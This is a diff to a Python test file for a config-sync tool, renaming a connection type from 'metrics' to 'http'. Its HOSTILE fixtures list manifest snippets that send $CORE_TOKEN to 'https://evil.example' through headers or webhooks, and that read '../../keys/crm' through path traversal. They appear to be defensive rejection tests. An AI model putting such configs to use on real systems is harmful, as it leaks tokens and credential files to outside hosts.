@@ -59,7 +59,7 @@ class Company:
             "  - teams/*/okrsync.yaml\n"
             f"  - {{path: teams/ads/okrsync.yaml{granted}}}\n"
             "connections:\n"
-            f"  crm: {{type: metrics, url: '{self.answers.url}', token: 'file:keys/crm'}}\n"
+            f"  crm: {{type: http, url: '{self.answers.url}', token: 'file:keys/crm'}}\n"
             f"{more}",
             "utf-8",
         )
@@ -84,7 +84,7 @@ def company(shell: Shell) -> Iterator[Company]:
 
 
 def own(url: str, token: str) -> str:
-    return f"connections: {{own: {{type: metrics, url: '{url}', token: '{token}'}}}}"
+    return f"connections: {{own: {{type: http, url: '{url}', token: '{token}'}}}}"
 
 
 def test_workspaces_use_the_connections_of_the_fleet(company: Company, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -160,10 +160,10 @@ HOSTILE = {
     ),
     "a header": (
         SHARED,
-        "connections: {own: {type: metrics, url: 'https://evil.example', headers: {X-Key: $CORE_TOKEN}}}",
+        "connections: {own: {type: http, url: 'https://evil.example', headers: {X-Key: $CORE_TOKEN}}}",
     ),
     "the machine's Google account": (SHARED, "connections: {own: {type: google_sheets, url: 'https://evil.example'}}"),
-    "a connection of the fleet's name": (SHARED, "connections: {crm: {type: metrics, url: 'https://evil.example'}}"),
+    "a connection of the fleet's name": (SHARED, "connections: {crm: {type: http, url: 'https://evil.example'}}"),
     "a webhook": (SHARED, "notify: {room: {type: discord, url: $CORE_TOKEN}}"),
     "a person's webhook": (SHARED, "notify: {room: {type: teams, owners: {Ann: $CORE_TOKEN}}}"),
     "the password of mail": (
@@ -177,7 +177,7 @@ HOSTILE = {
     "a ledger behind a link": (SHARED, "ledger: .okrsync/ledger.db"),
     "certificates elsewhere": (
         SHARED,
-        "connections: {own: {type: metrics, url: 'https://evil.example', ca_bundle: ../../keys/crm}}",
+        "connections: {own: {type: http, url: 'https://evil.example', ca_bundle: ../../keys/crm}}",
     ),
     "rows of another file": (FILES.format(path="../../keys/crm"), ""),
     "rows behind a link": (FILES.format(path="data.csv"), ""),
@@ -297,9 +297,9 @@ def test_who_limits_nobody(company: Company, monkeypatch: pytest.MonkeyPatch) ->
         ("", "allow_addresses: [https://jira.internal]\n", "allow_addresses.1  is not an address; write 10.0.0.0/8"),
         ("", "  jira: {type: jira, url: https://j.example}\n", "connections.jira.token  is required: API token"),
         ("", "  jira: {type: jria}\n", "connections.jira  'jria' is not one of jira, github, google_sheets"),
-        ("", "  Jira: {type: metrics, url: https://j.example}\n", "connections.Jira  must be a name of small letters"),
-        ("", "  crm2: {type: metrics, url: https://j.example, token: abc}\n", "a secret does not belong in the config"),
-        ("", "  crm2: {type: metrics, url: https://j.example, tokn: $A}\n", "connections.crm2.tokn  unknown option"),
+        ("", "  Jira: {type: http, url: https://j.example}\n", "connections.Jira  must be a name of small letters"),
+        ("", "  crm2: {type: http, url: https://j.example, token: abc}\n", "a secret does not belong in the config"),
+        ("", "  crm2: {type: http, url: https://j.example, tokn: $A}\n", "connections.crm2.tokn  unknown option"),
     ],
 )
 def test_a_manifest_that_is_wrong(company: Company, granted: str, more: str, saw: str) -> None:
